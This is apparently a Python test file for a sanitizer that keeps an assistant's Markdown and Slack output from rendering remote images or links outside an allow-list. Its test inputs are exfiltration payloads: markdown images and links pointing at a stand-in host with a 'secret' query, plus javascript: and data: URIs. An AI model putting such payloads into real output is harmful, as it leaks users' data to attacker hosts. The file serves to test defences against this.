"""Model output made inert: no remote images, links only to allow-listed hosts, in Markdown and Slack."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.assistant.render import link_allowed, safe_markdown, safe_slack

HOSTS = {"runbooks.example.test"}
EVIL = "http://evil.example.test/?d=secret"


@pytest.mark.parametrize(
    "text",
    [
        f"![x]({EVIL})",
        f"![x] ({EVIL})",
        f"![x][1]\n\n[1]: {EVIL}",
        f"[click]({EVIL})",
        f"[click](<{EVIL}>)",
        f"<{EVIL}>",
        f"see {EVIL} now",
        "see www.evil.example.test/x",
        f"![a]({EVIL}&x=(1)) tail",
        f"[ok](https://runbooks.example.test.evil.example.test/{EVIL})",
        "[x](javascript:alert(1)) [y](data:image/png;base64,AAAA) [z](//evil.example.test/a)",
    ],
)
def test_no_image_and_no_link_to_another_host_survives(text: str) -> None:
    out = safe_markdown(text, HOSTS)
    assert not re.search(r"!\[[^\]]*\]\s*[\(\[]", out)
    # Every remaining address sits inside a code span, so no renderer links or fetches it.
    assert not re.search(r"\]\((?!https://runbooks\.example\.test/)", out)
    outside_code = re.sub(r"`[^`]*`", "", out)
    assert "evil.example.test" not in outside_code, out


def test_links_to_allowed_hosts_stay_links() -> None:
    text = "Read [the disk runbook](https://runbooks.example.test/disk) or https://runbooks.example.test/cpu"
    assert safe_markdown(text, HOSTS) == text
    assert link_allowed("https://wiki.runbooks.example.test/x", HOSTS)
    assert not link_allowed("https://user:pw@runbooks.example.test/x", HOSTS)
    assert not link_allowed("ftp://runbooks.example.test/x", HOSTS)


def test_slack_text_has_no_live_link_outside_the_allow_list() -> None:
    out = safe_slack(f"<{EVIL}|docs> {EVIL} <!channel> & https://runbooks.example.test/a", HOSTS)
    assert "http://evil" not in out and "<" not in out and "&amp;" in out
    assert "hxxp[://]evil[.]example[.]test" in out and "https://runbooks.example.test/a" in out


@given(st.text(max_size=200))
def test_nothing_written_gets_an_image_through(text: str) -> None:
    out = safe_markdown(f"{text}![x]({EVIL}){text}", HOSTS)
    assert not re.search(r"!\[[^\]]*\]\(", out)
